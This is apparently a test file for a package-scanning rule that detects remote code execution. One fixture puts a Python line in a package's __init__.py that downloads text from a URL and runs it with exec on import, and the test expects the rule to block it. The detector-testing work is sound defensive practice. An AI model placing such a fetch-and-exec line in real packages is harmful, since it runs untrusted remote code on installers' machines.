import { expect, it } from 'vitest'
import { factsOf } from '../../node/source-facts.test-support.ts'
import { known } from '../../model/facts.ts'
import type { RuleContext } from '../../model/rule.ts'
import { rule } from './remote-code.ts'

const context: RuleContext = {
  now: 0,
  minimumAgeMs: 0,
  isCooldownExempt: () => false,
  popularRank: () => null,
  popularNames: [],
}

async function find(files: Record<string, string>): Promise<unknown> {
  const sightings = rule.find({ source: known(await factsOf(files)) }, context)
  return sightings?.map(({ effect, place, automatic }) => [effect, place.file, place.line, automatic])
}

it('blocks an answer that is run on import', async () => {
  expect(
    await find({
      'demo/__init__.py': "import requests\nexec(requests.get('https://example.org/x').text)\n",
    }),
  ).toEqual([['block', 'demo/__init__.py', 2, true]])
})

it('leaves an answer that is only returned', async () => {
  expect(
    await find({
      'demo/__init__.py': 'import requests\ndef get(u):\n    return requests.get(u).text\n',
    }),
  ).toEqual([])
})
